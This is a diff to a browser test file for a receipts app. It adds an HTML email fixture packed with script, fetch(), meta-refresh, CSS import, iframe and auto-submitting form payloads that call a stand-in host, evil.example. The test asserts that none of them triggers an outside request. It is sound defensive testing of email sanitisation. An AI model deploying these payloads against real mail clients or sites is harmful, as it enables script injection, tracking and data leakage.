@@ -37,7 +37,7 @@ test(
     await expectNoHorizontalScroll(page)
 
     await page.keyboard.press('e')
-    await page.getByLabel('Notes').fill('For demo day')
+    await receipt.getByLabel('Notes').fill('For demo day')
     await page.getByRole('button', { name: 'Save Changes' }).click()
     await expectToast(page, { title: 'Receipt updated', message: 'Your changes have been saved.' })
     await page.keyboard.press('v')
@@ -56,16 +56,24 @@ test(
     await page.getByRole('button', { name: /^Restore/ }).click()
     await expectToast(page, { title: 'Email restored' })
     await page.getByRole('tab', { name: 'Totals' }).click()
-    await expect(page.getByRole('list', { name: 'USD by category' })).toContainText('Meals')
+    await expect(page.getByRole('list', { name: 'Spent by category' })).toContainText('Meals')
+    await expect(page.getByText('EUR, 1 receipt')).toBeVisible()
     await expectNoAxeFindings(page)
   },
 )
 
-const hostile = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
-<link rel="stylesheet" href="https://evil.example/style.css"><script src="https://evil.example/script.js"></script>
-<img src="https://evil.example/pixel.gif" onerror="fetch('https://evil.example/error')"><iframe src="https://evil.example/frame"></iframe>
-<form action="https://evil.example/form"><input autofocus onfocus="this.form.submit()"></form>
-<p style="background:url(https://evil.example/background)">Hostile Shop</p><p>Date: 2026-11-20</p><p>Total $5.00</p><p>Paid by Visa</p>`
+const evil = 'https://evil.example'
+const hostile = `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
+<link rel="stylesheet" href="${evil}/style.css"><link rel="preload" as="image" href="${evil}/preload.png">
+<style>@import url(${evil}/import.css); body { background: url(${evil}/body.png) }</style>
+<script src="${evil}/script.js"></script><script>fetch('${evil}/fetch')</script>
+<img src="${evil}/pixel.gif" width="1" height="1" onerror="fetch('${evil}/error')"><img srcset="${evil}/one.png 1x, ${evil}/two.png 2x">
+<picture><source srcset="${evil}/source.png"><img src="data:image/gif;base64,R0lGOD"></picture>
+<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/><script>fetch('${evil}/svg')</script></svg>
+<iframe src="${evil}/frame" srcdoc="<img src=${evil}/srcdoc.png>"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
+<video poster="${evil}/poster.png" src="${evil}/video.mp4"></video><audio src="${evil}/audio.mp3" autoplay></audio>
+<form action="${evil}/form"><input autofocus onfocus="this.form.submit()"><input type="image" src="${evil}/input.png"></form>
+<p style="background:url(${evil}/background)">Hostile Shop</p><p>Date: 2026-11-20</p><p>Total $5.00</p><p>Paid by Visa</p>`
 
 test(
   'a hostile email is shown as text: nothing leaves the browser (T25)',
@@ -82,14 +90,18 @@ test(
     expect(status).toBe(201)
     await app.settled()
 
+    // All requests of the browser, whatever frame or worker they come from.
     const outside: string[] = []
-    page.on('request', (request) => {
-      if (!request.url().startsWith(app.url) && /^https?:/.test(request.url())) outside.push(request.url())
+    page.context().on('request', (request) => {
+      if (!request.url().startsWith(`${app.url}/`) && /^(?:https?|wss?):/.test(request.url()))
+        outside.push(request.url())
     })
     await signInAs('director')
     await page.goto('/receipts')
     await email(page, '<img src=https://evil.example/subject>').click()
     await expect(page.getByRole('group', { name: 'Text of the email' })).toContainText('Hostile Shop')
+    await expect(page.getByRole('region', { name: 'Hostile Shop' })).toContainText('$5.00')
+    await page.goto('/receipts?tab=receipts&q=hostile')
     await expect(page.getByRole('region', { name: 'Hostile Shop' })).toContainText('$5.00')
     await page.waitForLoadState('networkidle')
     expect(outside).toEqual([])
